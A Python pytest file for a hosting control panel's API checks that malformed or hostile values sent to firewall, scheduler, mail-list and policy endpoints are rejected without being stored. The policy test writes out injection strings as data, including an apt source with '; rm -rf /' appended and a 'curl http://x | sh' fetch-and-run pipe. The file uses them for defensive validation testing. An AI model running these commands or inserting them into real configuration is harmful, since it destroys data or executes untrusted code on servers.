"""Bad input to the lists' API and policies: a 4xx naming the field, nothing stored, nothing sent."""

from __future__ import annotations

import pytest

from agent.tests.test_hostile import VALUES, _legitimate

ROWS = {
    "firewall": {"action": "accept", "protocol": "tcp", "ports": "80", "source": "", "comment": ""},
    "scheduler": {"schedule": "@daily", "user": "root", "command": "/bin/true", "comment": "", "enabled": True},
    "mail/whitelist": {"sender": "example.org"},
    "mail/blacklist": {"sender": "example.org"},
}
CASES = [(path, field) for path, row in ROWS.items() for field in row]


def _snapshot(app):
    """What a refused request must leave untouched: operations, queued jobs, the master's lists."""
    from app.extensions import db
    from app.models import Operation, SystemList
    from app.queues import get_queue

    with app.app_context():
        lists = {r.name: (r.version, r.hash) for r in db.session.scalars(db.select(SystemList))}
        return db.session.query(Operation).count(), len(get_queue()), lists


@pytest.mark.parametrize("path,field", CASES, ids=[f"{p}.{f}" for p, f in CASES])
def test_every_hostile_value_in_every_field_is_refused_naming_it(cluster, app, path, field):
    """The agent's hostile corpus through POST (add) and PUT (edit) of every list."""
    bare_case = f"{path.replace('mail/', 'mail_')}.{field}"
    for why, value in VALUES:
        for method, url in (("POST", f"/{path}"), ("PUT", f"/{path}/1")):
            before = _snapshot(app)
            status, body = cluster.api(method, url, {**ROWS[path], field: value})
            if status == 202 and _legitimate(bare_case, value):
                continue
            if status == 404 and method == "PUT":
                # The value passed validation and the row does not exist: still nothing stored.
                assert _legitimate(bare_case, value), (why, body)
                continue
            assert 400 <= status < 500, (path, field, why, status, body)
            assert field in body["fields"], (path, field, why, body)
            assert _snapshot(app) == before, (path, field, why)


def test_wrong_shapes_are_refused(cluster, app):
    """Not an object, unknown fields, wrong types: 400 naming what is wrong."""
    before = _snapshot(app)
    assert cluster.api("POST", "/firewall", ["x"]) == (400, {"error": "Invalid body: must be a JSON object",
                                                            "fields": {"body": "must be a JSON object"}})
    status, body = cluster.api("POST", "/firewall", {**ROWS["firewall"], "chain": "output"})
    assert status == 400 and body["fields"] == {"chain": "unknown field"}
    status, body = cluster.api("POST", "/scheduler", {**ROWS["scheduler"], "enabled": "yes"})
    assert status == 400 and "enabled" in body["fields"]
    status, body = cluster.api("POST", "/firewall", {"action": "accept", "protocol": "icmp", "ports": "22"})
    assert status == 400 and body["fields"] == {"ports": "icmp has no ports"}
    assert _snapshot(app) == before


def test_a_job_for_an_account_no_node_has_is_refused_at_submit(cluster, app, client, auth):
    """A scheduler job's user must be a system account the nodes have or a panel user with an OS account:
    any other name is a 400 naming `user` from the API and the form, and nothing is stored or queued."""
    from app.services.users import make_user

    cluster.add("n1")
    cluster.collect()  # its first statistics: alice's web role can be placed there
    with app.app_context():
        make_user("alice", "correct horse battery", roles=("web",))
    before = _snapshot(app)
    for user in ("ghost", "root-admin"):  # no such account; a panel administrator without hosting roles
        status, body = cluster.api("POST", "/scheduler", {**ROWS["scheduler"], "user": user})
        assert status == 400 and list(body["fields"]) == ["user"], body
        assert f"no panel user or system account '{user}'" in body["fields"]["user"]
    status, body = cluster.api("PUT", "/scheduler/1", {**ROWS["scheduler"], "user": "ghost"})
    assert status == 400 and list(body["fields"]) == ["user"], body
    auth.login("form-admin")
    page = client.post("/system/scheduler", data={**ROWS["scheduler"], "user": "ghost", "enabled": "y",
                                                  "csrf_token": auth.csrf("/system/scheduler")})
    assert page.status_code == 400 and "no panel user or system account" in page.text
    assert _snapshot(app) == before
    for user in ("alice", "www-data", "root"):
        assert cluster.api("POST", "/scheduler", {**ROWS["scheduler"], "user": user})[0] == 202, user


def test_a_rule_that_would_lock_out_ssh_is_refused_before_anything_is_sent(cluster, app):
    """The agent's lockout check runs on the master first: drop tcp 22 from anywhere is refused."""
    before = _snapshot(app)
    status, body = cluster.api("POST", "/firewall", {"action": "drop", "protocol": "tcp", "ports": "22"})
    assert status == 400 and "would cut SSH" in body["fields"]["action"]
    assert _snapshot(app) == before


@pytest.mark.parametrize("field,value", [
    ("min_ready_percent", 101), ("min_ready_percent", "50"), ("min_ready_percent", True),
    ("missed_polls", 0), ("poll_interval_s", 0), ("placement_resource", "cpu"),
    ("node_apt_source", "deb http://x/ bookworm main; rm -rf /"), ("node_apt_source", "curl http://x | sh"),
    ("node_apt_source", "deb http://x/ bookworm\\nmain"), ("color", "blue"),
])
def test_bad_policy_values_are_refused(cluster, app, field, value):
    """Policies: 400 naming the field; no value stored, even the valid ones sent alongside."""
    status, before = cluster.api("GET", "/policies")
    status, body = cluster.api("PUT", "/policies", {"missed_polls": 7, field: value})
    assert status == 400 and field in body["fields"], body
    assert cluster.api("GET", "/policies")[1] == before


def test_policies_round_trip(cluster):
    """GET and PUT /api/v1/policies."""
    status, body = cluster.api("GET", "/policies")
    assert status == 200 and body["min_ready_percent"] == 50
    update = {"min_ready_percent": 75, "missed_polls": 2, "poll_interval_s": 5, "placement_resource": "memory",
              "node_apt_source": "deb [trusted=yes] http://mirror.lan/debian bookworm main"}
    assert cluster.api("PUT", "/policies", update) == (200, update)
    assert cluster.api("GET", "/policies") == (200, update)


def test_users_cannot_touch_lists_or_policies(cluster, users, client):
    """Every list and policy route is for administrators (403 for a user)."""
    import base64

    users.make("bob")
    token = base64.b64encode(b"bob:" + users.PASSWORD.encode()).decode()
    headers = {"Authorization": f"Basic {token}"}
    for method, url in [("GET", "/firewall"), ("POST", "/firewall"), ("PUT", "/scheduler/1"),
                        ("DELETE", "/mail/whitelist/1"), ("GET", "/policies"), ("PUT", "/policies"),
                        ("GET", "/sync"), ("POST", "/nodes/1/sync")]:
        assert client.open(f"/api/v1{url}", method=method, json={}, headers=headers).status_code == 403, url


def test_openapi_document_lists_the_routes(client):
    """The OpenAPI document stays valid and shows the lists' routes."""
    spec = client.get("/api/v1/openapi.json").get_json()
    for path in ("/api/v1/firewall", "/api/v1/firewall/{row_id}", "/api/v1/mail/whitelist", "/api/v1/policies",
                 "/api/v1/sync", "/api/v1/nodes/{node_id}/sync"):
        assert path in spec["paths"], path
